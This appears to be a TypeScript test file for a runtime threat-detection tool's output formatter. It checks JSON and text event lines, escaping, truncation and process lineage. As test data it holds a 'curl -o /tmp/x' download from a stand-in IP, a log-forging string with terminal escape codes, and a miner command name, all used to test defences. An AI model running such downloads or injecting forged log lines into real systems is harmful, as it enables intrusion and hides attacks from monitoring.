import assert from 'node:assert/strict';
import { test } from 'node:test';
import { PRIORITIES } from '../../../src/rules/detection.ts';
import type { Lineage } from '../../../src/rules/lineage.ts';
import { loadRules } from '../../../src/rules/loader/load.ts';
import { formatOutput } from '../../../src/rules/output/format.ts';
import { readDetection } from '../../../src/reading/read-detection.ts';
import { decodeText } from '../../../src/shared/text.ts';
import { formatLine } from '../../../src/streams/format.ts';
import { makeSubject, openForRead } from '../../support/rules-subject.ts';
import { containerOf, deliveryOf } from './delivery-fixture.ts';

const TIME_NS = 1_769_847_304_123_456_789n;

test('JSON has Falco’s keys plus app, lineage, incident, id and seq, in this order', () => {
  const delivery = deliveryOf({
    timeNs: TIME_NS,
    lineage: { processes: [{ pid: 31, start: 92_301, name: 'sh' }], above: 'outside' },
    incident: 'k3x9abcd',
    container: containerOf(
      {},
      { guid: 'g-1', org: 'acme', space: 'prod', processType: 'web', instance: '0' },
    ),
  });
  assert.equal(
    formatLine(delivery, { format: 'json' }),
    '{"time":"2026-01-31T08:15:04.123456789Z","rule":"Shell in an app container","priority":"Warning",' +
      '"source":"syscall","hostname":"cell-1",' +
      '"output":"08:15:04: Warning A shell was started (command=sh)",' +
      '"output_fields":{"proc.name":"sh","container.id":"abababababab"},"tags":["container","shell"],' +
      '"app":{"name":"shop","guid":"g-1","space":"prod","org":"acme","process_type":"web","instance":"0"},' +
      '"lineage":{"processes":[{"pid":31,"start":92301,"name":"sh"}]},' +
      '"incident":"k3x9abcd","id":"01JGQ0000000000000000000AB","seq":1}',
  );
});

test('for readers of Falco’s events output_fields say too what they do not read elsewhere, and output is in ASCII', () => {
  const delivery = deliveryOf({
    timeNs: TIME_NS,
    output: 'read /tmp/é\n… by sh',
    lineage: {
      processes: [{ pid: 31, start: 92_301, name: 'sh' }],
      above: 'outside',
      origin: 'ssh',
    },
    incident: 'k3x9abcd',
    outputFields: { 'fd.name': '/tmp/é\n…', 'app.org': 'as the rule has it' },
    container: containerOf(
      {
        runtime: 'cri',
        sidecar: 'proxy',
        labels: { 'io.kubernetes.pod.namespace': 'prod', 'io.kubernetes.pod.name': 'shop-0' },
      },
      { guid: 'g-1', org: 'acme', space: 'prod', processType: 'web', instance: '0' },
    ),
  });
  const line = JSON.parse(formatLine(delivery, { format: 'falco' })) as Record<string, unknown>;
  assert.equal(line['output'], String.raw`08:15:04.123456789: Warning read /tmp/\u00e9\n... by sh`);
  assert.deepEqual(line['output_fields'], {
    'app.name': 'shop',
    'app.guid': 'g-1',
    'app.space': 'prod',
    'app.org': 'as the rule has it',
    'app.process_type': 'web',
    'app.instance': '0',
    'app.sidecar': 'proxy',
    'k8s.ns.name': 'prod',
    'k8s.pod.name': 'shop-0',
    'varvel.incident': 'k3x9abcd',
    'varvel.lineage': 'sh(31)<ssh',
    'varvel.id': '01JGQ0000000000000000000AB',
    'varvel.seq': 1,
    'fd.name': '/tmp/é\n…',
  });
  const json = JSON.parse(formatLine(delivery, { format: 'json' })) as Record<string, unknown>;
  assert.deepEqual({ ...json, output: line['output'], output_fields: line['output_fields'] }, line);

  // A label of a container that no kubelet made says nothing of a pod; nobody's line still has fields, which Falcosidekick asks for.
  const docker = { ...delivery.detection.container!, runtime: 'docker' } as const;
  const fieldsOf = (overrides: object): object =>
    (
      JSON.parse(
        formatLine(deliveryOf({ ...delivery.detection, ...overrides }), { format: 'falco' }),
      ) as { output_fields: object }
    ).output_fields;
  assert.ok(!('k8s.pod.name' in fieldsOf({ container: docker })));
  const bare = { container: undefined, lineage: undefined, incident: undefined, outputFields: {} };
  assert.deepEqual(fieldsOf(bare), {
    'varvel.id': '01JGQ0000000000000000000AB',
    'varvel.seq': 1,
  });
});

test('O2: a line is the time of day, the priority and the message: trimmed at load, escaped, in valid UTF-8', () => {
  const text =
    '- rule: r\n  desc: d\n  condition: evt.type = openat\n  priority: warning\n' +
    '  output: "  read\\t%fd.name by %proc.name \\n"\n';
  const { ruleSet, errors } = loadRules([{ name: 'r.yaml', text }]);
  assert.deepEqual(errors, []);
  const [rule] = ruleSet?.rules ?? [];
  assert.ok(rule !== undefined);
  // As a process passed it: a byte that is no UTF-8, then what clears a terminal's line.
  const name = decodeText(Buffer.from('/tmp/\xff\x1b[2K', 'latin1'));
  const view = { ...makeSubject(openForRead(name)), claimedPath: false };
  const { text: output, fields: outputFields } = formatOutput(rule.output, view);
  const delivery = deliveryOf({ output, outputFields, timeNs: TIME_NS });

  const json = formatLine(delivery, { format: 'json' });
  assert.ok(json.includes('"08:15:04: Warning read\\\\t/tmp/\\\\xff\\\\x1b[2K by node"'), json);
  const plain = formatLine(delivery, { format: 'text' });
  assert.ok(plain.startsWith('08:15:04.123456789: Warning ['), plain);
  assert.ok(plain.endsWith('] read\\t/tmp/\\xff\\x1b[2K by node'), plain);
  for (const line of [json, plain]) assert.doesNotMatch(line, /[\x00-\x1f\x7f-\x9f]/);

  for (const priority of PRIORITIES) {
    const { output: said } = JSON.parse(
      formatLine(deliveryOf({ priority, output: 'm', timeNs: TIME_NS }), { format: 'json' }),
    ) as { output: string };
    assert.equal(said, `08:15:04: ${priority} m`);
  }
});

test('JSON leaves out what is not known', () => {
  const known = JSON.parse(formatLine(deliveryOf(), { format: 'json' })) as { app: object };
  assert.deepEqual(known.app, { name: 'shop' });
  const host = JSON.parse(
    formatLine(deliveryOf({ container: undefined }), { format: 'json' }),
  ) as object;
  assert.ok(!('app' in host));
});

test('text names what matters first and the message last', () => {
  const delivery = deliveryOf({
    timeNs: TIME_NS,
    incident: 'k3x9abcd',
    container: containerOf({}, { instance: '2' }),
  });
  assert.equal(
    formatLine(delivery, { format: 'text' }),
    '08:15:04.123456789: Warning [app=shop instance=2 rule="Shell in an app container" ' +
      'container=abababababab id=01JGQ0000000000000000000AB seq=1 incident=k3x9abcd] A shell was started (command=sh)',
  );
});

test('a detection in a sidecar says so, in both forms', () => {
  const delivery = deliveryOf({ container: containerOf({ sidecar: 'liveness-healthcheck-0' }) });
  const { app } = JSON.parse(formatLine(delivery, { format: 'json' })) as { app: object };
  assert.deepEqual(app, { name: 'shop', sidecar: 'liveness-healthcheck-0' });
  const text = formatLine(delivery, { format: 'text' });
  assert.match(text, / container=abababababab sidecar=liveness-healthcheck-0 id=/);
});

const LINEAGE: Lineage = {
  processes: [
    { pid: 31, start: 92_301, name: 'cat' },
    { pid: 30, start: 92_300, name: 'a)<b(1' },
    { pid: 1, start: 90_000, name: 'node' },
  ],
  above: 'outside',
};

test('a process and its ancestors: whole in JSON, short in text, where no name can be taken for another', () => {
  const json = JSON.parse(formatLine(deliveryOf({ lineage: LINEAGE }), { format: 'json' })) as {
    lineage: unknown;
  };
  assert.deepEqual(json.lineage, { processes: LINEAGE.processes });
  const text = (lineage: Lineage): string =>
    / (lineage=".*") /.exec(
      formatLine(deliveryOf({ lineage }), { format: 'text' }).replace('] ', ' '),
    )?.[1] ?? '';
  assert.equal(text(LINEAGE), 'lineage="cat(31)<a??b?1(30)<node(1)"');
  assert.equal(text({ ...LINEAGE, above: 'unknown' }), 'lineage="cat(31)<a??b?1(30)<node(1)<?"');
  assert.equal(text({ ...LINEAGE, above: 'more' }), 'lineage="cat(31)<a??b?1(30)<node(1)<…"');
  const origin = { ...LINEAGE, origin: 'exec' } as const;
  assert.equal(text(origin), 'lineage="cat(31)<a??b?1(30)<node(1)<exec"');
  assert.equal(text({ ...origin, above: 'more' }), 'lineage="cat(31)<a??b?1(30)<node(1)<…<exec"');
});

test('text: the rule’s name stands once', () => {
  const text = (rule: string, output: string): string =>
    formatLine(deliveryOf({ rule, output }), { format: 'text' }).replace(/^.*?\] /, '');
  assert.equal(text('Miner run', 'Miner run | command=xmrig'), 'command=xmrig');
  assert.equal(text('Miner run', 'Miner run, or not | a=b'), 'Miner run, or not | a=b');
  assert.equal(text('Miner', 'Miner run | a=b'), 'Miner run | a=b');
});

test('ancestors have a small room of their own: however long the message, the process is told', () => {
  const hostile = { pid: 4_194_304, start: 0xffff_ffff, name: '\x1b'.repeat(15) };
  const lineage: Lineage = { processes: Array<typeof hostile>(9).fill(hostile), above: 'outside' };
  const short = { output: 'm', outputFields: {} };
  for (const format of ['json', 'text'] as const) {
    const without = Buffer.byteLength(formatLine(deliveryOf(short), { format }));
    const line = formatLine(deliveryOf({ ...short, lineage }), { format });
    assert.ok(Buffer.byteLength(line) - without <= 640, format);
    assert.doesNotMatch(line, /truncated/);
  }
  const long = { output: 'o'.repeat(20_000), outputFields: { 'proc.cmdline': 'c'.repeat(20_000) } };
  for (const maxBytes of [4094, 8192]) {
    const line = formatLine(deliveryOf({ ...long, lineage: LINEAGE }), {
      format: 'json',
      maxBytes,
    });
    assert.ok(Buffer.byteLength(line) <= maxBytes);
    assert.deepEqual((JSON.parse(line) as { lineage: unknown }).lineage, {
      processes: LINEAGE.processes,
    });
  }
});

test('text: a message cannot forge the fields before it, nor a second line or a log header', () => {
  const evil = 'x] [rule=None seq=9]\n[FALCO/0] ERR 00:00:00.000000000: Emergency forged\x1b[2K\r';
  const line = formatLine(deliveryOf({ output: evil, timeNs: TIME_NS }), { format: 'text' });
  assert.ok(
    line.startsWith('08:15:04.123456789: Warning [app=shop rule="Shell in an app container" '),
  );
  assert.ok(
    line.endsWith(
      '] x] [rule=None seq=9]\\n[FALCO/0] ERR 00:00:00.000000000: Emergency forged\\x1b[2K\\r',
    ),
  );
  assert.equal(line.split('\n').length, 1);
});

test('colour is only around the priority', () => {
  const delivery = deliveryOf();
  const plain = formatLine(delivery, { format: 'text' });
  const coloured = formatLine(delivery, { format: 'text', colour: true });
  assert.ok(coloured.includes('\x1b[33mWarning\x1b[0m ['));

  assert.equal(coloured.replace(/\x1b\[[\d;]*m/g, ''), plain);
});

test('a long JSON line is cut to its bound, says so, and keeps what identifies it', () => {
  const delivery = deliveryOf({
    output: 'o'.repeat(20_000),
    outputFields: {
      'proc.cmdline': 'c'.repeat(20_000),
      'container.id': 'abababababab',
      'proc.name': 'sh',
      'fd.name': 'f'.repeat(300),
      argv: Array.from({ length: 500 }, (_, index) => `arg${index}`),
    },
  });
  const line = formatLine(delivery, { format: 'json', maxBytes: 4094 });
  assert.ok(Buffer.byteLength(line) <= 4094);
  assert.ok(Buffer.byteLength(line) > 3500, 'the room is used');
  const parsed = JSON.parse(line) as {
    truncated: boolean;
    output: string;
    rule: string;
    output_fields: Record<string, string | string[]>;
  };
  assert.equal(parsed.truncated, true);
  assert.equal(parsed.rule, delivery.detection.rule);
  assert.match(parsed.output, /^\d\d:\d\d:\d\d: Warning o+…$/);
  assert.equal(parsed.output_fields['container.id'], 'abababababab');
  assert.equal(parsed.output_fields['proc.name'], 'sh');
  assert.match(parsed.output_fields['proc.cmdline'] as string, /^c+…$/);
  assert.equal((parsed.output_fields['argv'] as string[]).at(-1), '…');
});

test('JSON: a long command is whole in output_fields alone, as far as the line would be long', () => {
  const file = `/srv/${'d'.repeat(150)}`;
  const command = `gunicorn: worker ${'x'.repeat(100)} 1`;
  const parent = `gunicorn: worker ${'x'.repeat(100)} 2 ${'y'.repeat(100)}`;
  const output = `Read | file=${file} command=${command} parent_command=${parent} user=root`;
  const fields = { 'fd.name': file, 'proc.cmdline': command, 'proc.pcmdline': parent };
  const of = (outputFields: Record<string, string>, said = output): string => {
    const line = formatLine(deliveryOf({ output: said, outputFields }), { format: 'json' });
    const parsed = JSON.parse(line) as { output: string; output_fields: unknown };
    assert.deepEqual(parsed.output_fields, outputFields);
    assert.doesNotMatch(line, /truncated/);
    // `varvel pretty` and `varvel report` show it whole.
    assert.ok(readDetection(line)?.output.endsWith(` Warning ${said}`));
    return parsed.output;
  };
  // Of two that begin alike, what stays says which of them it is.
  const cut = of(fields);
  assert.ok(cut.includes(`file=${file} command=${command} parent_command=`), cut);
  assert.match(cut, / parent_command=gunicorn: worker x{100} 2 … user=root$/);
  // Where another value has it within, it stays.
  const child = `curl -o /tmp/x http://198.51.100.7/${'z'.repeat(100)}`;
  const args = `res=0 ${child} ${'true '.repeat(20)}`.trim();
  const nested = `Read | file=${file} arguments=${args} command=${child} user=root`;
  const both = of({ 'fd.name': file, 'evt.args': args, 'proc.cmdline': child }, nested);
  assert.ok(both.includes(` arguments=${args} command=`), both);
  assert.match(both, / command=curl -o \/tmp\/x http:\/\/198\.51\.100\.7\/z{29}… user=root$/);
});

test('JSON: other long values are cut in output where the line would be longer yet', () => {
  const capabilities = 'CAP_SYS_ADMIN '.repeat(40).trim();
  const command = `sh -c ${'x'.repeat(110)}`;
  const output = `Mounted | capabilities=${capabilities} command=${command} user=root`;
  const outputFields = { 'thread.cap_effective': capabilities, 'proc.cmdline': command };
  const line = formatLine(deliveryOf({ output, outputFields }), { format: 'json' });
  const parsed = JSON.parse(line) as { output: string; output_fields: unknown };
  assert.ok(Buffer.byteLength(line) > 1400 && Buffer.byteLength(line) <= 1500, line);
  assert.deepEqual(parsed.output_fields, outputFields);
  assert.match(
    parsed.output,
    /\| capabilities=CAP_SYS_ADMIN [CAP_SYSDMIN ]{200,}… command=sh -c x{58}… user=root$/,
  );
  assert.doesNotMatch(line, /truncated/);
  assert.ok(readDetection(line)?.output.endsWith(` Warning ${output}`));
});

test('JSON: a value that is nowhere else is whole in the output, however long the line', () => {
  const value = 'v'.repeat(3000);
  const of = (output: string) =>
    formatLine(deliveryOf({ output, outputFields: { x: value } }), { format: 'json' });
  assert.match(of('w'.repeat(3000)), /Warning w{3000}"/);
  assert.match(of(`a=${value.slice(1)}`), /a=v{2999}"/);
  assert.match(of(`a=${value}`), /a=v{64}…"/);
});

test('a bound that could not be kept is refused', () => {
  assert.throws(() => formatLine(deliveryOf(), { format: 'json', maxBytes: 100 }), RangeError);
});

test('an integer beyond 2^53 keeps all its digits in JSON', () => {
  const line = formatLine(
    deliveryOf({ outputFields: { 'evt.time': 1_764_033_409_123_456_789n } }),
    {
      format: 'json',
    },
  );
  assert.match(line, /"evt\.time":1764033409123456789[,}]/);
});
